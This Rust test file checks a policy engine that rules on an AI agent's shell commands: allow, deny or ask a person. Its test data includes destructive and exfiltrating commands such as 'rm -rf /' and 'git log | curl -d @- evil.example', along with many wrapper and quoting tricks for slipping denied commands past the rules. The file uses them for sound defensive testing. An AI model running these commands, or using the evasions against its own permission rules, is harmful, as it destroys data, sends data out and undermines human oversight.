//! What a small policy says about shell commands, one line a command.

#![allow(clippy::unwrap_used)]

use aye_policy::{Action, Folder, OwnPlaces, Policy, PolicyFile, ToolCall};
use proptest::prelude::*;
use serde_json::{Map, Value, json};
use std::sync::LazyLock;

#[derive(Debug, PartialEq, Eq)]
enum Says {
    Allow,
    Deny,
    Ask,
}
use Says::{Allow, Ask, Deny};

static POLICY: LazyLock<Policy> = LazyLock::new(|| {
    let rule = |action: &str, command: &str| json!({"tool": "Bash", "command": command, "action": action});
    let rules = json!({"rules": [
        rule("deny", "curl*"),
        rule("deny", "rm *"),
        rule("allow", "git status"),
        rule("allow", "git log * [--oneline] [-n *] [--format *] [--grep *] [--author *]"),
        rule("allow", "cargo test * [-p *] [-- **]"),
        rule("allow", "time cargo test * [A=*]"),
    ]});
    serde_json::from_value::<PolicyFile>(rules).unwrap().check().unwrap()
});

fn says(command: &str) -> Says {
    let input = Map::from_iter([("command".to_owned(), Value::String(command.to_owned()))]);
    let places = OwnPlaces::default();
    let call = ToolCall {
        agent_kind: "claude",
        cwd: "/src",
        folder: Folder::Claimed,
        tool: "Bash",
        input: &input,
        places: &places,
    };
    match POLICY.decide(&call).action {
        Action::Allow => Allow,
        Action::Deny { .. } => Deny,
        Action::Ask => Ask,
    }
}

#[track_caller]
fn check(cases: &[(&str, Says)]) {
    let wrong: Vec<_> = cases
        .iter()
        .filter(|(command, expected)| says(command) != *expected)
        .map(|(command, expected)| format!("{command:?} should be {expected:?}, is {:?}", says(command)))
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn plain_commands_match_as_they_are_written() {
    check(&[
        ("git status", Allow),
        ("  git   status\t", Allow),
        ("git status\n", Allow),
        ("\n\n git status", Allow),
        ("git log", Allow),
        ("git log --oneline -n 5 HEAD~1..main^", Allow),
        ("git log --format=%H:%an", Allow),
        ("cargo test -p aye-core -- --nocapture", Allow),
        ("cargo testing-ground", Ask),
        ("cargo test --config 'build.rustc=\"evil\"'", Ask),
        ("git log --output=f", Ask),
        ("time cargo test", Allow),
        ("git statusx", Ask),
        ("git status -s", Ask),
        ("git", Ask),
        ("GIT status", Ask),
        ("/usr/bin/git status", Ask),
        ("./git status", Ask),
        ("git -c alias.status=!curl status", Ask),
        ("git -c core.pager=evil log", Ask),
        ("git --exec-path=/tmp status", Ask),
        ("time git status", Ask),
        ("", Ask),
        ("   ", Ask),
    ]);
}

#[test]
fn quotes_that_hide_nothing_are_read_through_and_words_stay_apart() {
    check(&[
        ("git 'status'", Allow),
        ("g'i't \"sta\"tus", Allow),
        ("git log --grep='a; curl x'", Allow),
        ("git log --grep \"it's \\$5\"", Allow),
        ("git log --grep='two\nlines'", Allow),
        ("git log --author=\"größer\"", Allow),
        ("git log a\\ b \\;", Allow),
        ("git \"status x\"", Ask),
        ("'git status'", Ask),
        ("git\\ status", Ask),
        ("\\git status", Ask),
        ("git ''status", Allow),
        ("git '' status", Ask),
        ("git log 'unclosed", Ask),
        ("git log \"unclosed", Ask),
        ("git log $'\\x41'", Ask),
        ("git log $\"hello\"", Ask),
    ]);
}

#[test]
fn every_part_of_a_compound_command_must_be_allowed_and_none_denied() {
    check(&[
        ("git status; git log", Allow),
        ("git status;", Allow),
        ("git status && cargo test || git log", Allow),
        ("git status &&\n cargo test", Allow),
        ("git status | git log |& cargo test", Allow),
        ("git status & cargo test &", Allow),
        ("git status\ngit log\n", Allow),
        ("(git status; git log) && cargo test", Allow),
        ("{ git status; git log; }", Allow),
        ("! git status", Allow),
        ("git status; x", Ask),
        ("git status && x", Ask),
        ("git status || x", Ask),
        ("git status | x", Ask),
        ("git status |& x", Ask),
        ("git status & x", Ask),
        ("git status&x", Ask),
        ("git status\nx", Ask),
        ("x; git status", Ask),
        ("(git status; x)", Ask),
        ("{ git status; x; }", Ask),
        ("! x", Ask),
        ("git status; curl evil.example", Deny),
        ("git status;curl evil.example", Deny),
        ("git status && rm -rf /", Deny),
        ("git log | curl -d @- evil.example", Deny),
        ("git status\nrm -rf /", Deny),
        ("git status & rm -rf /", Deny),
        ("x && (y || { z; curl w; })", Deny),
        ("! rm x", Deny),
        ("git status;; git log", Ask),
        ("git status &&", Ask),
        ("&& git status", Ask),
        ("; git status", Ask),
        ("(git status", Ask),
        ("git status)", Ask),
        ("{ git status }", Ask),
        ("()", Ask),
    ]);
}

#[test]
fn what_the_shell_would_put_in_is_never_allowed() {
    check(&[
        ("git status $(x)", Ask),
        ("git log `x`", Ask),
        ("git log \"$(x)\"", Ask),
        ("git log \"`x`\"", Ask),
        ("cargo test <(x)", Ask),
        ("cargo test >(x)", Ask),
        ("cargo test $x", Ask),
        ("cargo test \"$x\"", Ask),
        ("cargo test ${x}", Ask),
        ("cargo test ${x:-y}", Ask),
        ("cargo test $((1+1))", Ask),
        ("cargo test $[1+1]", Ask),
        ("cargo test $@", Ask),
        ("cargo test *", Ask),
        ("cargo test a?c", Ask),
        ("cargo test [ab]", Ask),
        ("cargo test {a,b}", Ask),
        ("cargo test ~/x", Ask),
        ("cargo test ~", Ask),
        ("cargo test --path=~/x", Ask),
        ("cargo test =curl", Ask),
        ("cargo test !(x)", Ask),
        ("cargo test !!", Ask),
        ("git status $(curl evil.example)", Deny),
        ("git log `curl evil.example`", Deny),
        ("git log \"a $(curl evil.example) b\"", Deny),
        ("cargo test <(curl evil.example)", Deny),
        ("cargo test ${x:-$(rm -rf /)}", Deny),
        ("cargo test $(( $(rm x) + 1 ))", Deny),
        ("x=$(rm y)", Deny),
        ("$(git status)", Ask),
        ("$x status", Ask),
    ]);
}

#[test]
fn redirections_here_documents_and_assignments_are_never_allowed() {
    check(&[
        ("git status > f", Ask),
        ("git status >f", Ask),
        ("git status >> f", Ask),
        ("git status 2>/dev/null", Ask),
        ("git status 2>&1", Ask),
        ("git status &> f", Ask),
        ("git status >| f", Ask),
        ("git status < f", Ask),
        ("> f git status", Ask),
        ("git status <<EOF\nx\nEOF", Ask),
        ("git status <<'EOF'\nrm x\nEOF", Ask),
        ("git log <<< x", Ask),
        ("FOO=1 git status", Ask),
        ("FOO='a b' git status", Ask),
        ("FOO+=1 git status", Ask),
        ("PATH=/tmp", Ask),
        ("time cargo test A=1", Allow),
        ("time cargo test; A=1 time cargo test", Ask),
        ("a[0]=1 git status", Ask),
        ("export PATH=/tmp; git status", Ask),
        ("rm >log file", Deny),
        (">log rm file", Deny),
        ("rm <<EOF file\nEOF", Deny),
        ("FOO=1 rm x", Deny),
        ("FOO=1 BAR=2 curl x > y", Deny),
        ("cat <<EOF\n$(curl x)\nEOF", Deny),
        ("cat <<EOF > x && rm y\nEOF", Deny),
    ]);
}

#[test]
fn control_flow_functions_and_comments_are_never_allowed_but_looked_into() {
    check(&[
        ("if git status; then git log; fi", Ask),
        ("for i in 1 2; do git status; done", Ask),
        ("while git status; do git log; done", Ask),
        ("case x in x) git status;; esac", Ask),
        ("git() { x; }; git status", Ask),
        ("function git { x; }\ngit status", Ask),
        ("[[ -f x ]] && git status", Ask),
        ("[ -f x ] && git status", Ask),
        ("((x)) && git status", Ask),
        ("coproc git status", Ask),
        ("time A=1 cargo test", Ask),
        ("time -p A=1 cargo test", Ask),
        ("time if cargo test", Ask),
        ("time { cargo test", Ask),
        ("time ! cargo test", Ask),
        ("git status # fine", Ask),
        ("# git status", Ask),
        ("git log a#b", Allow),
        ("if x; then rm y; fi", Deny),
        ("for i in 1; do rm $i; done", Deny),
        ("while true; do curl x; done", Deny),
        ("until rm x; do :; done", Deny),
        ("case x in x) curl y;; esac", Deny),
        ("f() { rm x; }; f", Deny),
        ("coproc rm x", Deny),
        ("git log # rm x", Ask),
    ]);
}

#[test]
fn characters_that_are_not_what_they_seem_are_never_allowed() {
    check(&[
        ("git status\0", Ask),
        ("git status\r", Ask),
        ("git status\r\nx", Ask),
        ("git log \u{1b}[2K", Ask),
        ("git log '\u{1b}[2K'", Ask),
        ("git\u{a0}status", Ask),
        ("git log\u{a0}x", Ask),
        ("git log \u{3000} x", Ask),
        ("git log '\u{202e}x'", Ask),
        ("git log a\u{200b}b", Ask),
        ("git log \u{2028}x", Ask),
        ("git log größer", Ask),
        ("git log '\t'", Ask),
        ("git\u{c}status", Ask),
        // These once made the grammar read outside its memory.
        ("echo {\u{10ffff}", Ask),
        ("echo {1..\u{10ffff}}", Ask),
        ("rm {\u{10ffff}", Deny),
    ]);
}

#[test]
fn a_line_that_goes_on_is_one_line_or_nothing() {
    check(&[
        ("cargo test \\\n  -p aye", Allow),
        ("git \\\nstatus", Allow),
        // The two readers differ here, so a person looks.
        ("git sta\\\ntus", Ask),
        ("git status \\\n; x", Ask),
        ("r\\\nm -rf /", Deny),
        ("git status \\\n&& curl x", Deny),
        ("git status \\", Ask),
    ]);
}

#[test]
fn deny_looks_through_wrappers_and_allow_takes_them_as_written() {
    check(&[
        ("sudo rm -rf /", Deny),
        ("sudo -u root rm -rf /", Deny),
        ("sudo --user root -- rm x", Deny),
        ("doas rm x", Deny),
        ("env rm x", Deny),
        ("env -i A=1 B=2 rm x", Deny),
        ("env -u HOME rm x", Deny),
        ("env -S 'rm x'", Deny),
        ("nohup rm x &", Deny),
        ("time -p rm x", Deny),
        ("command rm x", Deny),
        ("exec -a name rm x", Deny),
        ("builtin command rm x", Deny),
        ("timeout -k 5 10 rm x", Deny),
        ("nice -n 5 rm x", Deny),
        ("xargs rm", Deny),
        ("find . | xargs -0 -n 1 rm -f", Deny),
        ("find . -name x -exec rm {} \\;", Deny),
        ("find . -execdir rm -f {} +", Deny),
        ("bash -c 'rm x'", Deny),
        ("bash -lc \"cd y && rm x\"", Deny),
        ("bash -o pipefail -ec 'rm x'", Deny),
        ("/bin/sh -c 'rm x'", Deny),
        ("bash -c \"bash -c 'rm x'\"", Deny),
        ("sudo sh -c 'env A=1 rm x'", Deny),
        ("eval 'rm x'", Deny),
        ("eval rm x", Deny),
        ("trap 'rm x' EXIT", Deny),
        ("echo 'rm x' | sh", Deny),
        ("bash <<< 'rm x'", Deny),
        ("bash <<EOF\nrm x\nEOF", Deny),
        ("cat <<'EOF' | bash -s\nrm x\nEOF", Deny),
        ("/bin/rm x", Deny),
        ("\\rm x", Deny),
        ("r''m x", Deny),
        ("\"rm\" x", Deny),
        ("$'\\x72m' x", Deny),
        ("$'\\162\\155' x", Deny),
        ("busybox rm x", Deny),
        ("sudo cargo test", Ask),
        ("env cargo test", Ask),
        ("bash -c 'git status'", Ask),
        ("echo rm x", Ask),
        ("sudo apt install curl", Ask),
        ("echo 'rm x' > f", Ask),
        ("cat <<'EOF' > f\nrm x\nEOF", Ask),
        ("git log rm x", Allow),
        ("git log --grep 'rm x'", Allow),
    ]);
}

#[test]
fn what_no_grammar_fits_is_still_searched_for_what_is_denied() {
    check(&[
        ("git status $(", Ask),
        ("git status $(curl x", Deny),
        ("x; rm y; (", Deny),
        ("if then 'rm' y", Ask),
        ("fi; rm y", Deny),
        ("`rm y", Deny),
        ("rm y 'unclosed", Deny),
    ]);
    let long = format!("git log {}", "x".repeat(100_000));
    assert_eq!(says(&long), Ask);
    assert_eq!(says(&format!("{long}; rm y")), Deny);
    assert_eq!(says(&format!("bash -c '{long}; rm y'")), Deny);
}

#[test]
fn hostile_nesting_costs_neither_the_stack_nor_much_time() {
    for unit in [
        "(",
        "$(",
        "`",
        "{ ",
        "a|",
        "x=(",
        "<<A\n",
        "${",
        "))",
        "if ",
        "\"$(",
        "sudo ",
        "bash -c '",
        "env --x ",
    ] {
        for length in [2_000, 16_000, 60_000] {
            assert_eq!(says(&unit.repeat(length / unit.len())), Ask, "{unit:?}");
        }
    }
}

fn allowed() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("git status".to_owned()),
        "git log( --oneline| --format=[a-zA-Z0-9/.%]{1,6}| -n [0-9]){0,3}",
        "cargo test( [a-z_:]{1,8}| '[a-zäß;$>|&` \"*(\\\\]{0,8}'){0,3}",
    ]
}

proptest! {
    #[test]
    fn what_is_added_to_an_allowed_command_is_allowed_only_by_itself(
        first in allowed(),
        joint in prop_oneof![Just(";"), Just("&&"), Just("||"), Just("|"), Just("|&"), Just("&"), Just("\n"), Just("\\\n;")],
        blank in "[ \t\n]{0,2}",
        second in prop_oneof![allowed(), Just("curl x".to_owned()), "[a-z]{1,6}( [a-z*$>'\"`]{1,6}){0,2}"],
    ) {
        prop_assert_eq!(says(&first), Allow);
        let both = says(&format!("{first} {joint}{blank}{second}"));
        match says(&second) {
            Allow => prop_assert_eq!(both, Allow),
            Deny => prop_assert_eq!(both, Deny),
            Ask => prop_assert_ne!(both, Allow),
        }
    }

    #[test]
    fn nothing_the_shell_acts_on_can_be_slipped_in(
        command in allowed(),
        at in any::<prop::sample::Index>(),
        slipped in prop_oneof![
            Just("$(x)"), Just("`x`"), Just(" > f "), Just(" < f "), Just("<(x)"), Just("$x"), Just("${x}"),
            Just("\nx\n"), Just(" ; x ; "), Just(" & x & "), Just(" <<< x "), Just("\r"), Just("\0"),
        ],
    ) {
        // Between two words, or at the end: inside single quotes all of these are plain text.
        let gaps: Vec<usize> = (0..=command.len())
            .filter(|&i| command.is_char_boundary(i) && command[..i].matches('\'').count() % 2 == 0)
            .collect();
        let (before, after) = command.split_at(*at.get(&gaps));
        prop_assert_ne!(says(&format!("{before}{slipped}{after}")), Allow);
    }

    #[test]
    fn any_text_at_all_is_judged(text in any::<String>()) {
        says(&text);
    }

    #[test]
    fn any_shell_like_text_is_judged_and_what_is_allowed_is_plain(
        text in "(git status|git log|cargo test|rm x|[ \n;&|(){}!'\"$`<>\\\\=*~#-]|\\$\\(|<<E|\nE\n|if|do|x){1,14}",
    ) {
        if says(&text) == Allow {
            let script = aye_policy::Script::read(&text);
            let plain = script.plain.unwrap();
            // Written back, it is the same command, and writing it back again changes nothing.
            prop_assert_eq!(aye_policy::Script::read(&plain).plain, Ok(plain));
        }
    }
}

/// What rules that deny see through: options before a subcommand, the order of options, and programs that run others.
#[test]
fn a_denied_command_is_seen_in_whatever_way_it_is_run() {
    let rule = |command: &str| json!({"command": command, "action": "deny"});
    let file = json!({"auto_approve": ["*"], "rules": [rule("rm -rf *"), rule("git push*"), rule("kubectl delete *")]});
    let policy = serde_json::from_value::<PolicyFile>(file).unwrap().check().unwrap();
    let is_denied = |command: &str| {
        let input = Map::from_iter([("command".to_owned(), Value::String(command.to_owned()))]);
        let (places, folder) = (OwnPlaces::default(), Folder::Claimed);
        let call =
            ToolCall { agent_kind: "x", cwd: "/src", folder, tool: "Bash", input: &input, places: &places };
        matches!(policy.decide(&call).action, Action::Deny { .. })
    };
    for command in [
        "git -C . push",
        "git -c a.b=c push",
        "git --git-dir x push",
        "git --git-dir=x --work-tree y -c a=b -C z --no-pager push -f",
        "/usr/bin/git -C . push",
        "git -c 1=1 -c 2=2 -c 3=3 -c 4=4 -c 5=5 -c 6=6 -c 7=7 -c 8=8 -c 9=9 -c 10=10 push",
        "kubectl -n prod delete pod x",
        "kubectl --context prod --namespace=x delete pod x",
        "rm -fr x",
        "rm -r -f x",
        "rm -f -v -r x",
        "rm x -rf",
        "rm --force --recursive x",
        "command rm -rf x",
        "command -p rm -rf x",
        "env rm -rf x",
        "env -i A=1 rm -fr x",
        "env -S 'rm -rf x'",
        "env -iS 'rm -rf x'",
        "env '--split-string=rm -rf x'",
        "nice rm -rf x",
        "nice -n 5 rm -rf x",
        "nice -5 rm -rf x",
        "prlimit --nofile=10 rm -rf x",
        "prlimit --nofile 10 rm -rf x",
        "setarch x86_64 rm -rf x",
        "setarch x86_64 -R rm -rf x",
        "setarch -R rm -rf x",
        "linux64 rm -rf x",
        "unshare -r rm -rf x",
        "unshare --map-root-user rm -rf x",
        "flock /tmp/l rm -rf x",
        "flock /tmp/l -c 'rm -rf x'",
        "flock -n /tmp/l --command 'rm -rf x'",
        "script -c 'rm -rf x' /dev/null",
        "script -qc 'rm -rf x' /dev/null",
        "script '-crm -rf x'",
        "script '--command=rm -rf x'",
        "script -q /dev/null rm -rf x",
        "systemd-run --user rm -rf x",
        "systemd-run --user -p A=b --wait -- rm -rf x",
        "systemd-run -u x --uid 5 rm -rf x",
        "sudo -nu ada rm -rf x",
        "watch -n 1 rm -rf x",
        "ssh -p 22 host rm -rf x",
        "ssh host 'cd x; rm -rf x'",
        "nsenter -t 1 rm -rf x",
        "toybox rm -rf x",
        "parallel -j 4 rm -rf ::: x",
        "docker run --rm -v /:/h alpine rm -rf /h",
        "docker compose exec -T web rm -rf x",
        "kubectl exec pod -c web -- rm -rf x",
        "npm exec -- rm -rf x",
        "poetry run rm -rf x",
        "bundle exec rm -rf x",
        "conda run -n x rm -rf y",
        "runuser -u x -- rm -rf y",
        "bwrap --bind / / --dev /dev rm -rf x",
        "sshpass -p x ssh host rm -rf y",
        "tmux new-session -d 'rm -rf x'",
        "tmux send-keys 'rm -rf x' Enter",
        "screen -dm rm -rf x",
        "gdb -ex run --args rm -rf x",
        "perf stat -e cycles rm -rf x",
        "proxychains4 -q rm -rf x",
        "hyperfine 'rm -rf x'",
        "tcsh -c 'rm -rf x'",
        "pwsh -NoProfile -Command 'rm -rf x'",
        "powershell.exe -c rm -rf x",
        "cmd /c 'rm -rf x'",
        "cmd.exe /C rm -rf x",
        "wsl -d Ubuntu -e rm -rf x",
        "nix-shell -p a --run 'rm -rf x'",
        "npx -c 'rm -rf x'",
        "git submodule foreach 'rm -rf x'",
        "git bisect run rm -rf x",
        "git rebase -x 'rm -rf x' main",
        "git rebase '--exec=rm -rf x' main",
        "env nice command git -C . push",
        "systemd-run --user flock /tmp/l -c 'git -c a.b=c push'",
    ] {
        assert!(is_denied(command), "{command}");
    }
    for command in [
        "git -C . pull",
        "git -c push.default=x log",
        "rm -r x",
        "git rm -rf x",
        "echo rm -rf x",
        "git commit -m 'rm -rf x'",
        "git checkout -- x",
        "docker run --rm alpine ls",
        "docker rm -f x",
        "npm run build",
        "tmux ls",
        "grep 'rm -rf x' y",
    ] {
        assert!(!is_denied(command), "{command}");
    }
}
